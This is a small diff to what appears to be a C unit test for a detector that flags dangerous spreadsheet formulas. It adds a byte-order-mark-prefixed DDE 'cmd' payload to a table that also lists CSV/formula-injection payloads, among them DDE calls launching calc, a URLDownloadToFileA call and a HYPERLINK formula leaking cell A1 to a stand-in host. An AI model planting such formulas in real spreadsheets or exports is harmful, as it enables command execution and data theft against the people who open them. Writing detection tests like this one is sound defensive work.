@@ -21,6 +21,7 @@ static void cells(void **state)
 		{ "\xef\xbc\x9d"
 		  "cmd|'/C calc'!A0",
 		  GH_CELL_RUNS },
+		{ "\xef\xbb\xbf=cmd|'/C calc'!A0", GH_CELL_RUNS },
 		{ "=DDE(\"cmd\";\"/C calc\";\"x\")", GH_CELL_RUNS },
 		{ "=CALL(\"urlmon\",\"URLDownloadToFileA\")", GH_CELL_RUNS },
 		{ "=HYPERLINK(\"http://x/?\"&A1,\"more\")", GH_CELL_REACHES },
